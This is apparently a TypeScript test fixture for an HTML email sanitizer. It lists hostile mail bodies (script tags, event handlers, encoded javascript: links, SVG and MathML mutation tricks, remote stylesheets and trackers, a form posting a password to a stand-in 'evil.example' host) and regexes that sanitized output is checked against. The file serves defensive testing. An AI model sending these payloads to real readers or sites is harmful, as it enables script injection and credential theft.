// Hostile HTML mail bodies, shared by the sanitizer's unit test and the HTTP and browser
// tests (which send them as real mail). Each tries one way to run script, load remote
// content, submit data or navigate the reader's page.

export const HOSTILE_SAMPLES: Readonly<Record<string, string>> = {
  'script tag': '<p>hi</p><script>window.__xss=1</script>',
  'script with src': '<script src="https://evil.example/x.js"></script>',
  'uppercase and broken script': '<SCRIPT>window.__xss=1</SCRIPT><scr<script>ipt>window.__xss=1</script>',
  'event handler': '<img src="x" onerror="window.__xss=1"><body onload="window.__xss=1"><div onmouseover="window.__xss=1">x</div>',
  'javascript: link': '<a href="javascript:window.__xss=1">click</a><a href="  JaVaScRiPt:window.__xss=1">2</a>',
  'entity-encoded javascript: link': '<a href="&#106;avascript:window.__xss=1">e</a><a href="&#x6A;avascript&#x3A;window.__xss=1">f</a><a href="java&#9;script:window.__xss=1">g</a>',
  'vbscript and data: links': '<a href="vbscript:msgbox(1)">v</a><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
  'svg with script': '<svg><script>window.__xss=1</script><circle onload="window.__xss=1"/></svg><svg/onload=window.__xss=1>',
  'svg data image': '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  'css expression and url': '<div style="width: expression(window.__xss=1); background: url(https://evil.example/t.png)">c</div><p style="color: red; background-image: url(javascript:window.__xss=1)">d</p>',
  'style element': '<style>@import url(https://evil.example/x.css); body { background: url(https://evil.example/b.png) }</style><p>s</p>',
  'link stylesheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'base tag': '<base href="https://evil.example/"><a href="/x">rel</a>',
  'form': '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button formaction="https://evil.example/">go</button></form>',
  'iframe and frames': '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.__xss=1</script>"></iframe><frameset><frame src="https://evil.example/"></frameset>',
  'object and embed': '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf"><applet code="x"></applet>',
  'math and template': '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1></style></mglyph></table></mtext></math><template><script>window.__xss=1</script></template>',
  'remote image and srcset': '<img src="https://tracker.example/p.gif"><img srcset="https://tracker.example/s.gif 1x"><img src="//tracker.example/pr.gif">',
  'comment and CDATA tricks': '<!--<img src="--><img src=x onerror=window.__xss=1>--><![CDATA[<script>window.__xss=1</script>]]>',
  'attribute breaking quotes': '<a title="x" href="https://ok.example/" onclick="window.__xss=1" style="x:expression(1)">q</a><img """><script>window.__xss=1</script>">',
  'noscript and textarea': '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>"></noscript><textarea><script>window.__xss=1</script></textarea>',
};

/** Patterns that must not appear in sanitised output (case-insensitive). */
export const FORBIDDEN_PATTERNS: readonly RegExp[] = [
  /<script/i, /<style/i, /<iframe/i, /<frame/i, /<object/i, /<embed/i, /<applet/i, /<form/i, /<input/i, /<button/i,
  /<meta/i, /<base/i, /<link/i, /<svg/i, /<math/i, /<template/i, /<textarea/i,
  /\son[a-z]+\s*=/i, /javascript:/i, /vbscript:/i, /data:text/i, /data:image\/svg/i, /expression\s*\(/i, /url\s*\(/i,
  /evil\.example/i, /srcset/i, /src="\/\/tracker/i,
];
